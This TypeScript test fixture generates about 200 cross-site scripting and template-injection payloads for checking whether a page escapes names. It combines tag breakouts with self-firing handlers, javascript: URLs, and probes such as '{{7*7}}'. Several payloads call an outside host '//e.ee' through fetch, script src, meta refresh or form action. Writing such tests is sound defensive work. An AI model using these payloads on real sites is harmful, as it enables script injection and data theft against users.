/** Texts that become script in a page that forgets to escape a name somewhere. */
import { isRelease } from '../../../../tools/runner/extent.ts';

/** Each shows that it ran: by a dialog, by a variable, or by a request to another site. */
const CALLS = ['alert(1)', 'alert`1`', 'top.x=1', 'fetch("//e.ee")'];
/** Endings of what may surround a text: attributes, elements, comments. */
const BREAKOUTS = ['', '">', "'>", '</title>', '</p>', '</dl>', '</template>', '-->', '</script>', '"/>'];
/** Elements that run by themselves: browsers call their handlers without any action of the player. */
const STARTERS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><set onbegin=${call} dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}>`,
  (call) => `<textarea autofocus onfocus=${call}>`,
  (call) => `<b tabindex=0 autofocus onfocus=${call}>`,
  (call) => `<input type=image src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video src=x onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<iframe src='javascript:${call}'></iframe>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<object data=x onerror=${call}></object>`,
];
/** Texts that templates would fill in, texts that change the page without script, and texts that wait for the player. */
const OTHERS = [
  '<%= process.env %>',
  '<%~ it.texts %>',
  '{{7*7}}',
  '${7*7}',
  '&lt;b&gt;',
  '&#60;script&#62;',
  '<script src=//e.ee></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<a href=javascript:alert(1)>x</a>',
  '<meta http-equiv=refresh content=0;url=//e.ee>',
  '<base href=//e.ee>',
  '<link rel=stylesheet href=//e.ee>',
  '<form action=//e.ee><button>x',
  '<iframe srcdoc=x>',
  '<object data=//e.ee>',
  '<!--',
  '<![CDATA[x]]>',
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" style="x:y',
];

interface Payload {
  text: string;
  /** Two of the ten endings for each element, and three or four elements for each ending: with so many every one of both is tried. */
  isEnough: boolean;
}

const PAIRS: readonly Payload[] = BREAKOUTS.flatMap((breakout, row) =>
  STARTERS.map((starter, column) => ({
    text: breakout + starter(CALLS[(row + column) % CALLS.length] ?? ''),
    isEnough: [row, (row + 1) % BREAKOUTS.length].includes(column % BREAKOUTS.length),
  })),
);

/** 200 texts, each short enough for the name of a partner or a bank. */
export const SCRIPT_PAYLOADS: readonly string[] = [...OTHERS, ...PAIRS.map(({ text }) => text)];

/** Those that a browser is shown, which takes a hundred times as long as to read a page: for what lands 56 of them. */
export const PAYLOADS_FOR_BROWSERS: readonly string[] = isRelease()
  ? SCRIPT_PAYLOADS
  : [...OTHERS, ...PAIRS.filter(({ isEnough }) => isEnough).map(({ text }) => text)];
